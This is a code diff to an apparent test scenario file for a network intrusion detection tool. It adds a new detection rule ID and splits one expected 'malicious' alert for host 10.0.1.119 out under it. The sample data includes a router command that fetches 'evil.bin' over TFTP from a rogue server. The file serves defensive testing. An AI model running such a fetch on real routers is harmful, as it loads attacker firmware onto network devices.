@@ -7,7 +7,7 @@ from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
 from bootwarden.traffic.wire import Wire
 
-OTHERS_LOAD, OTHERS_SEND = 1542007001, 1542007002
+OTHERS_LOAD, OTHERS_SEND, CARRIERS_SEND = 1542007001, 1542007002, 1542007004
 """The rules for words of vendors other than Cisco."""
 LOADS = (
     (111, "[admin@mt1] > ", f"/tool fetch mode=tftp address={ROGUE} src-path=evil.bin"),
@@ -56,7 +56,10 @@ ABROAD = Expect(
 @scenario(
     "BW18",
     "malicious",
-    raises=[("BW18", OTHERS_SEND, ATTACKER, f"10.0.1.{last}") for last in (111, 117, 118, 119)],
+    raises=[
+        *(("BW18", OTHERS_SEND, ATTACKER, f"10.0.1.{last}") for last in (111, 117, 118)),
+        ("BW18", CARRIERS_SEND, ATTACKER, "10.0.1.119"),
+    ],
     plain=ABROAD,
     site=HQ,
     with_site=ABROAD,
